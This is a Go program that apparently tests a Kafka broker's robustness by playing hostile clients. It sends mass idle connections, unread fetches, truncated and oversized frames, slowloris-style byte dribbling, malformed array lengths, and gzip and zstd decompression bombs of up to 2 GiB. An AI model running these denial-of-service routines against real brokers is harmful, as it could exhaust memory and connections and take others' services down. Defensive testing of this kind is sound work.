package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"net"
	"time"

	"github.com/klauspost/compress/zstd"
	"github.com/twmb/franz-go/pkg/kmsg"
)

const (
	honestTopic = "honest"
	dataTopic   = "data"   // some megabytes to fetch
	packedTopic = "packed" // the broker compresses what comes
)

// A peer is a kind of them.
type peer struct {
	name        string
	connections int
	bytes       int64 // of memory that all of them together may cost the broker
	data        bool  // they want data to read
	attack      func(*scene) error
}

var peers = []peer{
	{"idle", 10_000, 64 << 20, false, idle},
	{"unread", 1_000, 128 << 20, true, unread},
	{"half", 5_000, 64 << 20, false, half},
	{"promises", 5_000, 64 << 20, false, promises},
	{"dribble", 500, 32 << 20, false, dribble},
	{"lengths", 1_000, 32 << 20, false, lengths},
	{"arrays", 1_000, 64 << 20, false, arrays},
	{"bombs", 8, 256 << 20, false, bombs},
}

// A scene is one broker and who misbehaves towards it.
type scene struct {
	ctx         context.Context
	address     string
	connections int
	open        []net.Conn
}

func (s *scene) close() {
	for _, c := range s.open {
		c.Close()
	}
	s.open = nil
}

// dial opens a connection that stays until the scene ends.
func (s *scene) dial() (net.Conn, error) {
	c, err := (&net.Dialer{Timeout: 10 * time.Second}).DialContext(s.ctx, "tcp", s.address)
	if err != nil {
		return nil, err
	}
	s.open = append(s.open, c)
	return c, nil
}

// each opens all connections and sends the same on each.
func (s *scene) each(f func(i int) []byte) error {
	for i := range s.connections {
		c, err := s.dial()
		if err != nil {
			return fmt.Errorf("connection %d: %w", i, err)
		}
		if _, err := c.Write(f(i)); err != nil {
			return fmt.Errorf("connection %d: %w", i, err)
		}
	}
	return nil
}

// prepare makes the topics.
func (s *scene) prepare(p peer) error {
	c, err := s.dial()
	if err != nil {
		return err
	}
	q := kmsg.NewPtrCreateTopicsRequest()
	q.TimeoutMillis = 5000
	for _, name := range []string{honestTopic, dataTopic, packedTopic} {
		t := kmsg.NewCreateTopicsRequestTopic()
		t.Topic, t.NumPartitions, t.ReplicationFactor = name, 1, 1
		if name == packedTopic {
			config := kmsg.NewCreateTopicsRequestTopicConfig()
			config.Name, config.Value = "compression.type", kmsg.StringPtr("lz4")
			t.Configs = append(t.Configs, config)
		}
		q.Topics = append(q.Topics, t)
	}
	if _, err := exchange(c, format(4, q)); err != nil {
		return fmt.Errorf("create topics: %w", err)
	}
	if !p.data {
		return nil
	}
	megabyte := format(7, produce(dataTopic, plainBatch(make([]byte, 900_000))))
	for range 8 {
		if _, err := exchange(c, megabyte); err != nil {
			return fmt.Errorf("produce: %w", err)
		}
	}
	return nil
}

// idle peers ask which versions there are, read the answer and say no more.
func idle(s *scene) error {
	for range s.connections {
		c, err := s.dial()
		if err != nil {
			return err
		}
		if _, err := exchange(c, format(0, kmsg.NewPtrApiVersionsRequest())); err != nil {
			return err
		}
	}
	return nil
}

// unread peers ask for a megabyte eight times and read nothing.
func unread(s *scene) error {
	q := kmsg.NewPtrFetchRequest()
	q.MaxBytes, q.MinBytes, q.MaxWaitMillis = 1<<20, 1, 500
	t := kmsg.NewFetchRequestTopic()
	t.Topic = dataTopic
	p := kmsg.NewFetchRequestTopicPartition()
	p.PartitionMaxBytes, p.CurrentLeaderEpoch = 1<<20, -1
	t.Partitions = append(t.Partitions, p)
	q.Topics = append(q.Topics, t)
	requests := bytes.Repeat(format(11, q), 8)
	return s.each(func(int) []byte { return requests })
}

// half peers send half of a frame of 8 KiB.
func half(s *scene) error {
	frame := make([]byte, 4+4096)
	binary.BigEndian.PutUint32(frame, 8192)
	return s.each(func(int) []byte { return frame })
}

// promises are frames of 90 MiB of which ten bytes come.
func promises(s *scene) error {
	frame := make([]byte, 4+10)
	binary.BigEndian.PutUint32(frame, 90<<20)
	return s.each(func(int) []byte { return frame })
}

// dribble peers send a good request byte by byte, again and again.
func dribble(s *scene) error {
	if err := s.each(func(int) []byte { return nil }); err != nil {
		return err
	}
	request := format(0, kmsg.NewPtrApiVersionsRequest())
	victims := append([]net.Conn(nil), s.open...)
	go func() {
		ticks := time.NewTicker(2 * time.Millisecond)
		defer ticks.Stop()
		for i := 0; ; i++ {
			<-ticks.C
			for j := i % 10; j < len(victims); j += 10 { // each every 20 ms
				if _, err := victims[j].Write(request[i/10%len(request):][:1]); err != nil && errors.Is(err, net.ErrClosed) {
					return
				}
			}
		}
	}()
	return nil
}

// lengths claim frames of 2 GiB, or negative ones, and must be shown the door.
func lengths(s *scene) error {
	claims := []uint32{0x7fffffff, 0x80000000, 0xffffffff, 101 << 20}
	if err := s.each(func(i int) []byte {
		frame := make([]byte, 4+100)
		binary.BigEndian.PutUint32(frame, claims[i%len(claims)])
		return frame
	}); err != nil {
		return err
	}
	return s.closed()
}

// arrays say that they have two billion elements.
func arrays(s *scene) error {
	frames := arrayFrames()
	if err := s.each(func(i int) []byte { return frames[i%len(frames)] }); err != nil {
		return err
	}
	return s.closed()
}

// closed waits until the broker has closed all connections but the first.
func (s *scene) closed() error {
	for i, c := range s.open[1:] {
		if err := c.SetReadDeadline(time.Now().Add(10 * time.Second)); err != nil {
			return err
		}
		_, err := io.Copy(io.Discard, c)
		var late net.Error
		if errors.As(err, &late) && late.Timeout() {
			return fmt.Errorf("connection %d is still open", i)
		}
	}
	return nil
}

// bombs are batches of zeros by the gigabyte, compressed: for a topic that the broker compresses anew, and for one that
// it does not, whose records are then looked for by time.
func bombs(s *scene) error {
	packed := map[int16][]byte{1: gzipped(512 << 20), 4: zstandard(2 << 30)}
	for range s.connections {
		for codec, records := range packed {
			c, err := s.dial()
			if err != nil {
				return err
			}
			for _, topic := range []string{packedTopic, dataTopic} {
				if _, err := exchange(c, format(7, produce(topic, rawBatch(codec, records)))); err != nil {
					return fmt.Errorf("send a bomb to %s: %w", topic, err)
				}
			}
			q := kmsg.NewPtrListOffsetsRequest()
			q.ReplicaID = -1
			t := kmsg.NewListOffsetsRequestTopic()
			t.Topic = dataTopic
			p := kmsg.NewListOffsetsRequestTopicPartition()
			p.Timestamp, p.CurrentLeaderEpoch = 1, -1
			t.Partitions = append(t.Partitions, p)
			q.Topics = append(q.Topics, t)
			if _, err := exchange(c, format(5, q)); err != nil {
				return fmt.Errorf("look into a bomb: %w", err)
			}
		}
	}
	return nil
}

func gzipped(size int64) []byte {
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, gzip.BestSpeed) // a known level
	_, _ = io.CopyN(w, zeros{}, size)               // into memory
	_ = w.Close()
	return b.Bytes()
}

func zstandard(size int64) []byte {
	var b bytes.Buffer
	w, _ := zstd.NewWriter(&b)        // no option that could be wrong
	_, _ = io.CopyN(w, zeros{}, size) // into memory
	_ = w.Close()
	return b.Bytes()
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// exchange sends a request and reads the whole answer.
func exchange(c net.Conn, request []byte) ([]byte, error) {
	if err := c.SetDeadline(time.Now().Add(30 * time.Second)); err != nil {
		return nil, err
	}
	if _, err := c.Write(request); err != nil {
		return nil, err
	}
	var head [4]byte
	if _, err := io.ReadFull(c, head[:]); err != nil {
		return nil, err
	}
	body := make([]byte, binary.BigEndian.Uint32(head[:]))
	_, err := io.ReadFull(c, body)
	return body, err
}

// format is a request with its header and length.
func format(version int16, q kmsg.Request) []byte {
	q.SetVersion(version)
	return kmsg.NewRequestFormatter(kmsg.FormatterClientID("hostile")).AppendRequest(nil, q, 1)
}

func produce(topic string, batch []byte) *kmsg.ProduceRequest {
	q := kmsg.NewPtrProduceRequest()
	q.Acks, q.TimeoutMillis = -1, 5000
	t := kmsg.NewProduceRequestTopic()
	t.Topic = topic
	p := kmsg.NewProduceRequestTopicPartition()
	p.Records = batch
	t.Partitions = append(t.Partitions, p)
	q.Topics = append(q.Topics, t)
	return q
}

// plainBatch is a batch of one record.
func plainBatch(value []byte) []byte {
	r := kmsg.Record{Value: value}
	r.Length = int32(len(r.AppendTo(nil))) - 1 // the length itself is one byte while it is 0
	return rawBatch(0, r.AppendTo(nil))
}

// rawBatch is a batch that says it has one record.
func rawBatch(attributes int16, records []byte) []byte {
	b := kmsg.RecordBatch{Magic: 2, Attributes: attributes, FirstTimestamp: 1000, MaxTimestamp: 1000, ProducerID: -1, ProducerEpoch: -1, FirstSequence: -1,
		NumRecords: 1, Records: records, PartitionLeaderEpoch: -1}
	b.Length = int32(len(b.AppendTo(nil)) - 12)
	raw := b.AppendTo(nil)
	binary.BigEndian.PutUint32(raw[17:], crc32.Checksum(raw[21:], crc32.MakeTable(crc32.Castagnoli)))
	return raw
}

// arrayFrames are requests of several keys cut off behind an array length that is nonsense.
func arrayFrames() (frames [][]byte) {
	many := []byte{0x7f, 0xff, 0xff, 0xff}
	compact := []byte{0xff, 0xff, 0xff, 0xff, 0x07}
	for _, one := range []struct {
		key, version int16
		body         []byte
	}{
		{0, 7, append([]byte{0xff, 0xff, 0xff, 0xff, 0, 0, 0x10, 0}, many...)}, // Produce
		{1, 11, append(make([]byte, 25), many...)},                             // Fetch
		{2, 5, append([]byte{0xff, 0xff, 0xff, 0xff, 0}, many...)},             // ListOffsets
		{3, 4, many}, {3, 9, append([]byte{0}, compact...)}, // Metadata
		{8, 3, append([]byte{0, 1, 'g', 0, 0, 0, 1, 0, 1, 'm', 0, 0, 0, 0, 0, 0, 0, 0}, many...)},              // OffsetCommit
		{9, 2, append([]byte{0, 1, 'g'}, many...)},                                                             // OffsetFetch
		{11, 4, append([]byte{0, 1, 'g', 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 8, 'c', 'o', 'n', 's'}, many...)}, // JoinGroup
		{19, 4, many}, {20, 3, many}, {32, 1, many}, {42, 1, many}, {15, 4, many}, {37, 1, many}, {44, 0, many}, // and others
	} {
		f := []byte{0, 0, 0, 0, 0, byte(one.key), 0, byte(one.version), 0, 0, 0, 1, 0, 1, 'h'}
		f = append(f, one.body...) // of a flexible version, it begins with the header's tags
		binary.BigEndian.PutUint32(f, uint32(len(f)-4))
		frames = append(frames, f)
	}
	return frames
}
